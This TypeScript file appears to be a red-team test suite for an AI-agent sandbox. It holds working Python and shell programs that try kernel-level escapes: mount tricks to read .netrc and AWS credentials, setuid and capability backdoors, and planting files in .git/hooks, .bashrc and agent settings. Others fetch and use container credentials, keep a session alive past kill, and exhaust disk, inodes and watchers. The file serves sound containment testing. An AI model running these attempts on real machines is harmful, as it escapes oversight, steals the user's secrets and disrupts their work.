// Attempts on the kernel: other numbers, other calls and other file systems than the usual, bits and capabilities that a file keeps, what has others wait.
import type { Attempt } from "../attempt.ts";

/** Calls that have one number on every machine, and paths as C takes them. */
const PYTHON = `
import ctypes, errno, os, platform, struct, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *arguments):
    result = libc.syscall(number, *[ctypes.c_long(each) if isinstance(each, int) else each for each in arguments])
    return result, os.strerror(ctypes.get_errno())
home = os.environ["HOME"]
def inside(path): return os.path.join(home, path).encode()
HERE = -100
`;

/** In a user and mount namespace of its own. */
const nested = (program: string): string =>
  `${PYTHON}
NEW_USER, NEW_MOUNTS = 0x10000000, 0x20000
uid, gid = os.getuid(), os.getgid()
if libc.unshare(NEW_USER | NEW_MOUNTS) == 0:
    open("/proc/self/setgroups", "w").write("deny")
    open("/proc/self/uid_map", "w").write("0 %d 1" % uid)
    open("/proc/self/gid_map", "w").write("0 %d 1" % gid)
else:
    print("no namespace of its own:", os.strerror(ctypes.get_errno()))
${program}`;

/** keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0) by the numbers of i386, and exit(whether it is refused). */
const ELF32 = `
code = bytes.fromhex("b820010000" "31db" "b9fdffffff" "31d2" "cd80" "31db" "85c0" "0f9ec3" "b801000000" "cd80")
base, head = 0x8048000, 84
program = b"\\x7fELF" + bytes([1, 1, 1]) + bytes(9) + struct.pack("<HHIIIIIHHHHHH", 2, 3, 1, base + head, 52, 0, 0, 52, 32, 1, 0, 0, 0)
program += struct.pack("<IIIIIIII", 1, 0, base, base, head + len(code), head + len(code), 5, 0x1000) + code
`;

export const kernel: readonly Attempt[] = [
  {
    id: "from-memory",
    group: "processes",
    what: "run a 32-bit program that no file holds (memfd_create, execveat) for its other numbers of system calls",
    with: "python",
    program: `${PYTHON}${ELF32}
fd = os.memfd_create("red-team")
os.write(fd, program)
child = os.fork()
if child == 0:
    empty = (ctypes.c_char_p * 1)(None)
    call(281 if platform.machine() == "aarch64" else 322, fd, b"", empty, empty, 0x1000)
    os._exit(99)
status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
print("REACHED: a keyring" if status == 0 else "status %d" % status)`,
    standard: "system calls",
    none: "reached",
    kernelMay: true,
  },
  {
    id: "mounts-taken-apart",
    group: "files",
    what: "take a copy of the mounts without their covers: open_tree, move_mount, fsopen, pivot_root",
    with: "python",
    program: nested(`
for flags in (1, 0x8001):
    tree, why = call(428, HERE, home.encode(), flags)
    print("open_tree", tree, why)
    for where in (b"/mnt", b"/tmp"):
        if tree >= 0 and call(429, tree, b"", HERE, where, 4)[0] == 0:
            for name in (".netrc", ".aws/credentials"):
                try: print(open(os.path.join(where.decode(), name)).read())
                except OSError as error: print(error)
context, why = call(430, b"overlay", 0)
print("fsopen", context, why)
if context >= 0:
    for key, value in ((b"lowerdir", home.encode() + b":/usr"), (b"userxattr", b"")): print(call(431, context, 1 if value else 0, key, value or None, 0))
    print(call(431, context, 6, None, None, 0))
    mount, why = call(432, context, 0, 0)
    for name in (".netrc", ".aws/credentials"):
        try: print(open("/proc/self/fd/%d/%s" % (mount, name)).read())
        except OSError as error: print(error)
for path in ("/", "/proc/1/root", "/proc/self/root", home):
    if call(41 if platform.machine() == "aarch64" else 155, path.encode(), path.encode())[0] == 0 or libc.chroot(path.encode()) == 0:
        for name in (home + "/.netrc", "/.netrc"):
            try: print(open(name).read())
            except OSError as error: print(path, error)`),
    standard: "mounts",
    none: "reached",
  },
  {
    id: "each-mount",
    group: "files",
    what: "lift each mount in a namespace of its own: unmount it, move it away, copy it without what is mounted in it, make it writable",
    with: "python",
    program: nested(`
arm = platform.machine() == "aarch64"
UMOUNT, OPEN_TREE, MOVE, SETATTR = 39 if arm else 166, 428, 429, 442
DETACH = 2
mounts = [(words[0], words[1], words[4].encode().decode("unicode_escape")) for words in map(str.split, open("/proc/self/mountinfo"))]
seen = {point: number for number, on, point in mounts}
writable = (ctypes.c_uint64 * 4)(0, 1, 0, 0)
def tree(path, flags):
    fd, why = call(OPEN_TREE, HERE, path.encode(), flags)
    return fd
os.makedirs("lifted", exist_ok=True)
if libc.mount(b"mine", b"lifted", b"tmpfs", 0, None) == 0 and call(UMOUNT, b"lifted", DETACH)[0] == 0: print("CONTROL: a mount of its own is lifted")
for path in sorted(seen, key=len, reverse=True):
    holds = any(on == seen[path] for number, on, point in mounts)
    if not os.path.exists(path): continue
    for flags in (0, DETACH):
        if call(UMOUNT, path.encode(), flags)[0] == 0: print("REACHED: unmounted", path)
    if holds and tree(path, 1) >= 0: print("REACHED: without what is in it:", path)
    fd = tree(path, 0)
    if fd >= 0 and call(MOVE, fd, b"", HERE, b"lifted", 4)[0] == 0: print("REACHED: moved", path)
    if os.statvfs(path).f_flag & os.ST_RDONLY and call(SETATTR, HERE, path.encode(), 0, ctypes.byref(writable), 32)[0] == 0: print("REACHED: writable", path)`),
    standard: "mounts",
    none: "privileges",
  },
  {
    id: "by-handle",
    group: "files",
    what: "open files by number past all mounts: name_to_handle_at, open_by_handle_at",
    with: "python",
    program: nested(`
handle = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0) + bytes(128))
mount = ctypes.c_int()
arm = platform.machine() == "aarch64"
for path in (home, os.getcwd()):
    result, why = call(264 if arm else 303, HERE, path.encode(), handle, ctypes.byref(mount), 0)
    print("CONTROL: a handle" if result == 0 else why)
    root = os.open(path, os.O_RDONLY)
    fd, why = call(265 if arm else 304, root, handle, os.O_RDONLY)
    print("REACHED" if fd >= 0 else why)`),
    standard: "system calls",
    none: "privileges",
  },
  {
    id: "watch-all-opens",
    group: "files",
    what: "be told with fanotify what the human's programs do with a hidden file",
    with: "python",
    program: `${PYTHON}
import select
arm = platform.machine() == "aarch64"
fd, why = call(262 if arm else 300, 0x200 | 2, 0)
print("fanotify_init", fd, why)
for path in (".config/gh", ".netrc"):
    print(call(263 if arm else 301, fd, 1, 0x8000022, HERE, inside(path)))
print("REACHED: it was used" if fd >= 0 and select.select([fd], [], [], 0.6)[0] else "nothing came")`,
    standard: "mounts",
    none: "reached",
    kernelMay: true,
  },
  {
    id: "setuid-left",
    group: "persistence",
    what: "leave a program that runs as the human for whoever of the machine starts it (setuid): by chmod in each form, by creating, in a namespace of its own",
    with: "python",
    program: `${PYTHON}
shell = open("/bin/sh", "rb").read()
def put(name, mode=0o755, flags=os.O_CREAT | os.O_RDWR):
    fd = os.open(name, flags, mode)
    os.write(fd, shell)
    return fd
def tries(name, action):
    try:
        print(name, action())
    except OSError as error:
        print(name, error)
os.umask(0)
os.close(put("su-1")); os.close(put("su-2")); os.close(put("su-3"))
tries("chmod", lambda: os.chmod("su-1", 0o4755))
tries("fchmodat", lambda: os.chmod("su-1", 0o4755, dir_fd=os.open(".", os.O_RDONLY)))
tries("fchmodat2", lambda: call(452, HERE, b"su-2", 0o4755, 0))
tries("fchmod", lambda: os.fchmod(os.open("su-3", os.O_RDONLY), 0o6755))
tries("open", lambda: os.open("su-4", os.O_CREAT | os.O_RDWR, 0o4755))
tries("mknod", lambda: os.mknod("su-5", 0o104755))
tries("openat2", lambda: call(437, HERE, b"su-6", struct.pack("<QQQ", os.O_CREAT | os.O_RDWR, 0o4755, 0), 24))
tries("O_TMPFILE", lambda: os.link("/proc/self/fd/%d" % os.open(".", 0o20200000 | os.O_RDWR, 0o4755), "su-7", follow_symlinks=True))
subprocess.run(["unshare", "-Ur", "sh", "-c", "cp /bin/sh su-8; chmod 4755 su-8; install -m 4755 /bin/sh su-9; umask 0; mknod -m 4755 su-10 p"])`,
    later: `find . -maxdepth 1 -name 'su-*' -perm /6000 | sed 's/^/REACHED /'; rm -f su-*`,
    standard: "system calls",
    none: "reached",
  },
  {
    id: "capabilities-left",
    group: "persistence",
    what: "leave a program with capabilities, put on it where it is root: in a namespace of its own",
    with: "python",
    program: nested(`
import shutil
shutil.copy("/bin/cat", "capable")
try:
    os.setxattr("capable", "security.capability", struct.pack("<IIIII", 0x2000001, 0xffffffff, 0xffffffff, 0xff, 0xff))
    print("CONTROL: it has them")
except OSError as error:
    print(error)
for name in ("security.ima", "security.selinux", "trusted.overlay.opaque", "system.posix_acl_access"):
    try: os.setxattr("capable", name, b"x")
    except OSError as error: print(name, error)`),
    later: `./capable /proc/self/status | grep -q '^CapEff:.*[1-9a-f]' && echo REACHED; rm -f capable`,
    standard: "privileges",
    none: "privileges",
    kernelMay: true,
  },
  {
    id: "swapped-places",
    group: "persistence",
    what: "swap protected places and their parents for its own (RENAME_EXCHANGE, RENAME_WHITEOUT), and link files without a name into them (O_TMPFILE)",
    with: "python",
    program: `${PYTHON}
def rename(flag, old, new): return call(276 if platform.machine() == "aarch64" else 316, HERE, old, HERE, new, flag)
os.makedirs("own/hooks", exist_ok=True)
open("own/hooks/planted", "w").write("x")
open("own/config", "w").write("planted")
for old, new in ((b"own/hooks", b".git/hooks"), (b"own/config", b".git/config"), (b"own", b".git"), (b"own/config", inside(".bashrc")), (b"own/config", inside(".claude/settings.json")), (b"own", inside("bin"))):
    result, why = rename(2, old, new)
    print("REACHED" if result == 0 else why, new)
    if result == 0: rename(2, new, old)
for flag in (1, 4, 0):
    for new in (b".git/hooks/planted", inside(".zprofile"), inside("bin/planted")):
        result, why = rename(flag, b"own/config", new)
        print("REACHED" if result == 0 else why, new)
        if result == 0:
            os.unlink(new)
            if os.path.lexists("own/config"): os.unlink("own/config")
            open("own/config", "w").write("planted")
for place in (".git/hooks", home + "/.config/app", home + "/bin", home):
    for folder in (place, "."):
        try:
            fd = os.open(folder, 0o20200000 | os.O_RDWR, 0o755)
            os.link("/proc/self/fd/%d" % fd, place + "/no-name", follow_symlinks=True)
            print("REACHED", place)
            os.unlink(place + "/no-name")
        except OSError as error:
            print(place, error)`,
    alone: "where it is reached",
    standard: "read-only",
    none: "reached",
  },
  {
    id: "squeezed",
    group: "processes",
    what: "have the kernel treat the human's programs worse: oom_score_adj, limits, priority, processors, autogroup",
    program: `(echo 900 > "/proc/$RT_SQUEEZED/oom_score_adj"; prlimit --pid "$RT_SQUEEZED" --nofile=9:9; renice -n 19 -p "$RT_SQUEEZED"; taskset -p 1 "$RT_SQUEEZED") 2>&1`,
    later: `test "$(cat "/proc/$RT_SQUEEZED/oom_score_adj")" -ge 900 && echo REACHED; grep -q '^Max open files *9 ' "/proc/$RT_SQUEEZED/limits" && echo REACHED limits; true`,
    standard: "processes",
    none: "reached",
  },
  {
    id: "spared",
    group: "processes",
    what: "be the last that the kernel ends where memory is short: a lower oom_score_adj, also in a namespace of its own",
    program: `echo -900 2>/dev/null > /proc/self/oom_score_adj; unshare -Ur sh -c 'echo -900 > /proc/self/oom_score_adj; cat /proc/self/oom_score_adj' 2>&1 | sed 's/^-900/REACHED/'; cat /proc/self/oom_score_adj | sed 's/^-900/REACHED/'
      (echo 700 > /proc/self/oom_score_adj; sed 's/^/CONTROL /' /proc/self/oom_score_adj)`,
    standard: "privileges",
    none: "privileges",
  },
  {
    id: "launcher-socket",
    group: "sockets",
    what: "find a socket of the launcher's or of the daemon's in the processes above it, over which open files could come (SCM_RIGHTS)",
    with: "python",
    program: `
import os
def read(path):
    try: return open(path, "rb").read()
    except OSError as error: return str(error).encode()
for pid in filter(str.isdigit, os.listdir("/proc")):
    line = read("/proc/%s/cmdline" % pid)
    if not any(name in line for name in (b"bwrap", b"agent_run_", b"agent-run.cjs", b"main.cjs")): continue
    try:
        found = [os.readlink("/proc/%s/fd/%s" % (pid, fd)) for fd in os.listdir("/proc/%s/fd" % pid)]
        print(pid, line[:20], found)
        for link in found:
            if link.startswith("socket:"): print("REACHED", pid, link)
    except OSError as error:
        print(pid, error)`,
    standard: "processes",
    none: "reached",
  },
  {
    id: "lease",
    group: "holding up",
    what: "have everybody who opens a file wait for 45 seconds, with a lease on it",
    with: "python",
    program: `
import fcntl, os, signal
signal.signal(signal.SIGIO, signal.SIG_IGN)
open("leased", "w").close()
for path in ("leased", os.path.expanduser("~/.gitconfig")):
    for kind in (fcntl.F_WRLCK, fcntl.F_RDLCK):
        try:
            fd = os.open(path, os.O_RDONLY)
            fcntl.fcntl(fd, fcntl.F_SETLEASE, kind)
            print("REACHED", path)
            fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_UNLCK)
        except OSError as error:
            print(path, error)
os.unlink("leased")`,
    standard: "system calls",
    none: "reached",
  },
  {
    id: "file-locks",
    group: "holding up",
    what: "hold locks (flock, fcntl) on files that the human's programs use",
    with: "python",
    program: `
import fcntl, os
for path in ("readme.md", ".git/config", os.path.expanduser("~/.gitconfig")):
    try:
        fcntl.flock(os.open(path, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB)
        fcntl.lockf(os.open(path, os.O_RDONLY), fcntl.LOCK_SH | fcntl.LOCK_NB)
        print("REACHED", path)
    except OSError as error:
        print(path, error)`,
    standard: "reached",
    none: "reached",
    gap: "It can hold up what you do with the same files",
  },
  {
    id: "counts-of-the-kernel",
    group: "holding up",
    what: "use up what the kernel counts for each user, so that the human's programs get none: watchers of files (inotify)",
    with: "python",
    program: `
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
made = 0
while made < 100000 and libc.inotify_init() >= 0: made += 1
print(made, os.strerror(ctypes.get_errno()), flush=True)
print("READY", flush=True)
end = time.time() + 20
while not os.path.exists(os.environ["RT_ID"] + "-over") and time.time() < end: time.sleep(0.02)`,
    meanwhile: `/usr/bin/python3 -c 'import ctypes; print("REACHED" if ctypes.CDLL(None).inotify_init() < 0 else "CONTROL: one is left")'`,
    passes: true,
    alone: "always",
    standard: "reached",
    none: "reached",
    kernelMay: "everywhere",
    gap: "No limits on resources",
  },
  {
    id: "own-file-system",
    group: "holding up",
    what: "mount a file system of its own that does not answer over a folder of the project (FUSE)",
    with: "python",
    program: `
import os
for path in ("/dev/fuse", "fuse-made"):
    try:
        if path == "fuse-made": os.mknod(path, 0o20666, os.makedev(10, 229))
        os.close(os.open(path, os.O_RDWR))
        print("REACHED", path)
    except OSError as error: print(path, error)`,
    standard: "mounts",
    none: "reached",
    kernelMay: true,
  },
  {
    id: "git-lock",
    group: "holding up",
    what: "leave a lock file with which git in the project refuses to work",
    program: "echo x > .git/refs/heads/held.lock && echo made",
    later: "git branch held 2>&1 | grep -q held.lock && echo REACHED; rm -f .git/refs/heads/held.lock",
    standard: "reached",
    none: "reached",
    gap: "It can hold up what you do with the same files",
  },
  {
    id: "no-inode-left",
    group: "holding up",
    what: "take every file that the file system of agent-run's records and sockets has, so that a kill cannot end its session, or ends half of it",
    program: "echo the session that does it is the line below",
    // What other attempts planted at none runs in this launch too, and is theirs.
    later: `
export RT_MARKS=/media/small/none
mkdir -p /media/small/p /media/small/s && mkdir -p -m 700 /media/small/r && cd /media/small/p
export XDG_STATE_HOME=/media/small/s XDG_RUNTIME_DIR=/media/small/r
agent-run --isolation $RT_LEVEL sh -c 'mkdir more; i=0; while true >more/$i; do i=$((i+1)); done 2>/dev/null; echo "$AWS_CONTAINER_CREDENTIALS_FULL_URI $AWS_CONTAINER_AUTHORIZATION_TOKEN"; while :; do sleep 0.05; done' >/media/filled 2>&1 &
until grep -q ^http: /media/filled || ! kill -0 $!; do sleep 0.1; done
touch more/one-more 2>&1 | grep -q 'No space' && echo CONTROL nothing more can be made
agent-run kill --all || echo REACHED the kill failed
wait $!
ls -d /media/small/r/agent-run/sess_* 2>/dev/null | sed 's/^/REACHED left /'
read -r uri token </media/filled
python3 -I -c 'import sys, urllib.request as u; print("REACHED served", u.urlopen(u.Request(sys.argv[1], headers={"Authorization": sys.argv[2]}), timeout=2).status)' "$uri" "$token" 2>/dev/null
pgrep -f '^[^ ]*sh -c mkdir more' | sed 's/^/REACHED lives /'
rm -rf more; agent-run audit --verify | grep -q 'all as they were written' || echo REACHED the record has no end
agent-run daemon stop; rm -rf /media/small/p`,
    standard: "daemon",
    none: "daemon",
  },
  {
    id: "disk-filled",
    group: "holding up",
    what: "take room on the human's disk: 64 MB in one file, 5000 files",
    with: "python",
    program: `
import os, shutil
fd = os.open("large", os.O_CREAT | os.O_RDWR)
os.posix_fallocate(fd, 0, 1 << 26)
os.mkdir("many-files")
for number in range(5000): open("many-files/%d" % number, "w").close()
print("REACHED", os.stat("large").st_size, len(os.listdir("many-files")))
os.unlink("large")
shutil.rmtree("many-files")`,
    standard: "reached",
    none: "reached",
    gap: "No limits on resources",
  },
];
